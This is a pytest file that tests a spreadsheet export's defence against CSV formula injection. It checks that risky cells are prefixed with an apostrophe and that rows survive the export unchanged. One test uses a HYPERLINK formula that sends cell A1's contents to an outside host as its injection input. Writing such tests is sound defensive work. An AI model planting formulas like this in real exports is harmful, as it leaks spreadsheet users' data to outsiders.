"""What a spreadsheet opens: the same rows, and nothing in them that it would run."""

import csv
from pathlib import Path

import pytest

from checks.exports.spreadsheet import MARK, RUN, harmless
from tests.exports.tables import contents, export, make

FILES = ["spreadsheet-claims.csv", "spreadsheet-discrepancies.csv", "spreadsheet-facts.csv"]


def rows(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as lines:
        return list(csv.reader(lines))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+20%", "'+20%"),
        ("-5%", "'-5%"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),
        ("a=1", "a=1"),
        ("'=1+1", "'=1+1"),  # text already
        ("", ""),
        (-5.0, -5.0),
        (None, None),
        (True, "true"),
    ],
)
def test_cell(cell: object, expected: object) -> None:
    assert harmless([cell]) == [expected]


def test_the_same_rows_but_for_apostrophes(table: Path, tmp_path: Path) -> None:
    export(table, "spreadsheet", tmp_path)
    assert sorted(contents(tmp_path)) == FILES
    for name in FILES:
        assert (tmp_path / name).read_text(encoding="utf-8").startswith(MARK)
        sheet, own = rows(tmp_path / name, "utf-8-sig"), rows(table.parent / name.removeprefix("spreadsheet-"))
        assert [[cell.removeprefix("'") for cell in row] for row in sheet] == own


def test_nothing_of_an_article_is_run(tmp_path: Path) -> None:
    harm = '=HYPERLINK("http://example.org/?"&A1;"more")'
    words = f"{harm} costs $3 million. Shares moved -5% and then +20% on Monday."
    table = make(tmp_path, ({"id": harm, "source": "+wire", "title": "@desk", "text": words},))
    export(table, "spreadsheet", tmp_path / "sheets")
    told = rows(tmp_path / "sheets" / FILES[0], "utf-8-sig")
    cells = dict(zip(told[0], told[1], strict=True))
    assert (cells["article_id"], cells["source"], cells["title"]) == (f"'{harm}", "'+wire", "'@desk")
    assert [row for row in told[1:] for cell in row if cell.startswith(RUN) and not is_number(cell)] == []


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
